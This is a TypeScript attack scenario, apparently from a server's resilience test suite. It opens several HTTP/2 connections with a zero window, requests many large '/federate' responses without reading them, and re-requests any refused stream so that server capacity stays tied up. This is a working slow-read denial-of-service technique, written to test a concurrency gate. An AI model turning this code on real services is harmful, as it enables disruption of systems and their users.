/** One identity asks for many large answers over few HTTP/2 connections with a window of nothing, and reads none of them. */
import { setTimeout as delay } from 'node:timers/promises';
import { unreadSession } from './attack.ts';
import type { Attack } from './attack.ts';

const CONNECTIONS = 5;
/** Below what the gate allows on one connection, so that all of them are sent at once. */
const STREAMS_OF_EACH = 30;
const SETTLE_MS = 1_500;

export const unreadAnswers: Attack = async ({ port, authorization }) => {
  const counts = { asked: 0, answered: 0, refused: 0, closed: 0 };
  const open = (connection: number): void => {
    const session = unreadSession(port);
    session.on('error', () => undefined);
    session.once('close', () => setTimeout(open, 500, connection));
    const ask = (stream: number): void => {
      if (session.destroyed) return;
      const match = encodeURIComponent(`unread_${connection}_${stream}`);
      const path = `/federate?page=big&match[]=${match}`;
      const request = session.request({ ':path': path, authorization });
      counts.asked += 1;
      let refused = false;
      request.on('error', () => undefined);
      request.once('response', (headers) => {
        refused = headers[':status'] !== 200;
        if (refused) counts.refused += 1;
        else counts.answered += 1;
      });
      request.once('close', () => {
        counts.closed += 1;
        // What is refused or cut is asked again: the places stay taken.
        setTimeout(ask, 200, stream);
      });
    };
    session.once('connect', () => {
      for (let stream = 0; stream < STREAMS_OF_EACH; stream++) ask(stream);
    });
  };
  for (let connection = 0; connection < CONNECTIONS; connection++) open(connection);
  await delay(SETTLE_MS);
  return { counts: () => counts };
};
